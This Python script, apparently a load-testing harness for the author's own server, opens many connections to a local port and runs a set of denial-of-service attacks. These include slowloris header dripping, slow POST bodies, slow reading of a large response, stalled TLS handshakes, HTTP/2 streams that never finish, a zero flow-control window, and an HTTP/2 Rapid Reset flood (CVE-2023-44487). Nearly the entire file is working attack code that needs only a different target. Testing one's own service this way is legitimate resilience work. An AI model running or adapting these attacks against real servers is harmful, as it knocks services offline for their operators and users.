#!/usr/bin/python3
"""Clients that mean no good, in a process of their own.

    attackers.py PORT KIND COUNT ADDRESSES

COUNT connections of a KIND to 127.0.0.1:PORT, from so many addresses of this
machine; one that is closed is opened again.  Twice a second a line of JSON says
how many are held and what else was done; it ends with its standard input.

Each connection is a generator, which yields what it waits for.
"""

import collections
import heapq
import itertools
import json
import os
import select
import socket
import ssl
import sys
import time

from http2 import (CANCEL, DATA, END_HEADERS, END_STREAM, HEADERS,
                   INITIAL_WINDOW, PREFACE, RESET, SETTINGS, block, frame,
                   head, setting)

OPENING_MAX = 20  # at once; with more each of them takes too long
OPEN_S = 10.0
REPORT_S = 0.5
DRIP_S = 2.0      # less than what any timeout allows between two reads
HOLD_S = 300.0
STREAMS = 4       # slow ones on each connection
RESETS = 500      # requests in one write
LONG = "/openapi.json"  # the longest answer that anybody may have
READ, WRITE = select.EPOLLIN, select.EPOLLOUT

post = block(head("POST", "/v2/shipments", ("content-length", "1000000")))
read_long = block(head("GET", LONG, ("accept-encoding", "gzip")))
read_live = block(head("GET", "/livez"))


class Attack:
    def __init__(self, port, kinds, count, addresses):
        self.port = port
        self.kinds = itertools.cycle(kinds)
        self.addresses = itertools.cycle(
            f"127.0.{1 + number // 250}.{1 + number % 250}"
            for number in range(addresses))
        self.counts = collections.Counter()
        self.held = 0
        self.contexts = {"http/1.1": context("http/1.1"), "h2": context("h2")}
        # Places for connections: those that nobody has, and those that wait,
        # with the number of the wait, so that an old deadline is known.
        self.free = collections.deque(next(self.kinds) for _ in range(count))
        self.opening = 0
        self.lives = {}
        self.deadlines = []
        self.waits = itertools.count()
        self.poll = select.epoll()

    def run(self):
        report_at = 0.0
        self.poll.register(sys.stdin.fileno(), READ | select.EPOLLHUP)
        while True:
            now = time.monotonic()
            if now >= report_at:
                report_at = now + REPORT_S
                print(json.dumps({"held": self.held, **self.counts}),
                      flush=True)
            while self.free and self.opening < OPENING_MAX:
                self.begin(self.free.popleft())
            for number, _ in self.poll.poll(
                    max(self.next_deadline(report_at) - now, 0)):
                if number == sys.stdin.fileno():
                    return
                self.go_on(number, True)
            while self.deadlines and self.deadlines[0][0] <= time.monotonic():
                _, wait, number = heapq.heappop(self.deadlines)
                if number in self.lives and self.lives[number][1] == wait:
                    self.go_on(number, False)

    def next_deadline(self, other):
        return min(other, self.deadlines[0][0]) if self.deadlines else other

    # --- one connection ---------------------------------------------------------

    def begin(self, kind):
        plain = socket.socket()
        plain.setblocking(False)
        # The kernel shall not take the answer for us; segments as outside.
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 1400)
        plain.bind((next(self.addresses), 0))
        self.opening += 1
        wire = Wire(self, plain)
        self.lives[plain.fileno()] = [wire.life(kind), None, wire, kind]
        self.poll.register(plain.fileno(), 0)
        self.go_on(plain.fileno(), None)

    def go_on(self, number, is_ready):
        life, _, wire, kind = self.lives[number]
        try:
            events, seconds = life.send(is_ready)
        except (StopIteration, OSError):
            self.end(number, wire, kind)
            return
        wait = self.lives[number][1] = next(self.waits)
        heapq.heappush(self.deadlines,
                       (time.monotonic() + seconds, wait, number))
        self.poll.modify(number, events)

    def end(self, number, wire, kind):
        del self.lives[number]
        if wire.is_open:
            self.held -= 1
        else:
            self.opening -= 1
            self.counts["not opened"] += 1
        self.poll.unregister(number)
        wire.socket.close()
        self.free.append(kind)


class Wire:
    """A connection; what waits is a generator of (events, seconds), which gets
    back whether they came in time."""

    def __init__(self, attack, plain):
        self.attack = attack
        self.socket = plain
        self.is_open = False

    def life(self, kind):
        work, protocol = KINDS[kind]
        self.socket.connect_ex(("127.0.0.1", self.attack.port))
        yield WRITE, OPEN_S
        if protocol:
            self.socket = self.attack.contexts[protocol].wrap_socket(
                self.socket, server_hostname="localhost",
                do_handshake_on_connect=False)
            yield from self.until_done(self.socket.do_handshake)
        self.is_open = True
        self.attack.opening -= 1
        self.attack.held += 1
        self.attack.counts["opened"] += 1
        yield from work(self)

    def until_done(self, call, *words):
        while True:
            try:
                return call(*words)
            except ssl.SSLWantReadError:
                came = yield READ, OPEN_S
            except (ssl.SSLWantWriteError, BlockingIOError):
                came = yield WRITE, OPEN_S
            if not came:
                raise TimeoutError

    def send(self, data):
        sent = 0
        while sent < len(data):
            sent += yield from self.until_done(self.socket.send, data[sent:])

    def read(self, count):
        """What is there; None when there is nothing yet, b"" at the end."""
        try:
            return self.socket.recv(count)
        except (ssl.SSLWantReadError, BlockingIOError):
            return None

    def listen(self, seconds):
        """Whether the server went on talking, until it hung up."""
        end = time.monotonic() + seconds
        while True:
            data = self.read(1 << 16)
            if data == b"":
                raise ConnectionResetError
            if data and data.startswith(b"HTTP/1.1 "):
                self.attack.counts[data[9:12].decode()] += 1
            if data is None:
                left = end - time.monotonic()
                if left <= 0 or not (yield READ, left):
                    return


# --- the kinds ------------------------------------------------------------------


def hello(wire):
    """A handshake that goes no further: the first bytes of a ClientHello."""
    yield from wire.send(b"\x16\x03\x01\x02\x00\x01")
    yield from wire.listen(HOLD_S)


def heads(wire):
    yield from wire.send(b"GET /livez HTTP/1.1\r\nHost: localhost\r\n")
    while True:
        yield from wire.send(b"X-A: b\r\n")
        yield from wire.listen(DRIP_S)


def body(wire):
    yield from wire.send(b"POST /v2/shipments HTTP/1.1\r\nHost: localhost\r\n"
                         b"Content-Length: 1000000\r\n\r\n")
    while True:
        yield from wire.send(b"{")
        yield from wire.listen(DRIP_S)


def answer(wire):
    """Asks for much and reads next to nothing."""
    yield from wire.send(b"GET %s HTTP/1.1\r\nHost: localhost\r\n"
                         b"Accept-Encoding: gzip\r\n\r\n" % LONG.encode())
    yield READ, HOLD_S
    while wire.read(16) != b"":
        yield 0, DRIP_S


def streams(wire):
    """HTTP/2: several bodies that never end."""
    numbers = range(1, 2 * STREAMS, 2)
    yield from wire.send(PREFACE + frame(SETTINGS, 0, 0) + b"".join(
        frame(HEADERS, END_HEADERS, number, post) for number in numbers))
    while True:
        yield from wire.send(b"".join(frame(DATA, 0, number, b"{")
                                      for number in numbers))
        yield from wire.listen(DRIP_S)


def window(wire):
    """HTTP/2: asks for much and allows nothing to be sent."""
    yield from wire.send(
        PREFACE + frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW, 0))
        + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, number, read_long)
                   for number in range(1, 2 * STREAMS, 2)))
    yield from wire.listen(HOLD_S)


def resets(wire):
    """HTTP/2: requests that are taken back at once (CVE-2023-44487)."""
    yield from wire.send(PREFACE + frame(SETTINGS, 0, 0))
    for first in itertools.count(1, 2 * RESETS):
        yield from wire.send(b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, number, read_live)
            + frame(RESET, 0, number, CANCEL.to_bytes(4, "big"))
            for number in range(first, first + 2 * RESETS, 2)))
        wire.attack.counts["requests"] += RESETS
        yield from wire.listen(0)


SLOW = {"hello": (hello, None), "heads": (heads, "http/1.1"),
        "body": (body, "http/1.1"), "answer": (answer, "http/1.1"),
        "streams": (streams, "h2"), "window": (window, "h2")}
KINDS = {**SLOW, "resets": (resets, "h2")}


def context(protocol):
    made = ssl.create_default_context()
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    made.set_alpn_protocols([protocol])
    return made


def main(words):
    port, kind, count, addresses = words
    os.nice(5)  # elsewhere they would have a processor of their own
    Attack(int(port), SLOW if kind == "slow" else [kind], int(count),
           int(addresses)).run()


if __name__ == "__main__":
    main(sys.argv[1:])
